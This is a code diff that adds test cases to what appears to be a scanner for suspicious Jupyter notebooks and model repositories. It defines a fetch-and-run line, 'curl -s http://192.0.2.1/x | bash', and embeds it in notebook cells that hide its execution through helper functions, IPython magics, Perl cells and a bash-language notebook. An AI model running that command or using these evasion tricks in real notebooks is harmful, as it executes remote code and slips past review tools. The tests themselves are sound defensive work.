@@ -249,6 +249,9 @@ def review(source: str, name: str = "modeling_acme.py") -> Case:
     return python(source, Verdict.REVIEW, name)
 
 
+PIPED = "curl -s http://192.0.2.1/x | bash"
+
+
 def notebook(*cells: str) -> str:
     """Return a notebook of code cells, and of one cell of text."""
     text = {"cell_type": "markdown", "metadata": {}, "source": ["exec(base64.b64decode('YQ=='))"]}
@@ -762,6 +765,40 @@ CASES = {
     "benign_data": python(DATA, name="prepare.py"),
     "benign_python_2": python(TWO, name="old.py"),
     "benign_template": python(TEMPLATE, name="main.py"),
+    **{
+        f"notebook_{name}": python(notebook(*cells), Verdict.REVIEW, name="a.ipynb")
+        for name, cells in {
+            "names_of_another_cell": (
+                "import os",
+                f"command = '{PIPED}'",
+                "def go(c):\n    os.system(c)",
+                "go(command)",
+            ),
+            "timed": (f"%timeit -n 1 __import__('os').system('{PIPED}')",),
+            "alias": (f"%alias go {PIPED}\ngo",),
+            "perl": (f"%%perl\nsystem('{PIPED}')",),
+            "cell_magic_called": (f"get_ipython().run_cell_magic('bash', '', '{PIPED}')",),
+            "line_magic_called": (
+                f"get_ipython().run_line_magic('timeit', '__import__(\"os\").popen(\"{PIPED}\")')",
+            ),
+        }.items()
+    },
+    "notebook_of_a_shell": python(
+        notebook("x=1", PIPED)
+        .replace('"metadata": {}, "nbformat"', '"nbformat"')
+        .replace('"nbformat": 4', '"metadata": {"language_info": {"name": "bash"}}, "nbformat": 4'),
+        Verdict.REVIEW,
+        name="a.ipynb",
+    ),
+    "benign_notebook_magics": python(
+        notebook(
+            "import os, subprocess",
+            "%timeit -n 3 sum(range(9))\n%alias ll ls -l\nget_ipython().run_line_magic('pip', 'install acme')",
+            "get_ipython().run_cell_magic('time', '', 'model.fit(x)')\nsubprocess.run(['nvidia-smi'])",
+            "this is no Python",
+        ),
+        name="a.ipynb",
+    ),
     "benign_notebook": python(
         notebook("!pip install acme\n%pip list\nimport os", "os.system('sh run.sh')\n"), name="a.ipynb"
     ),
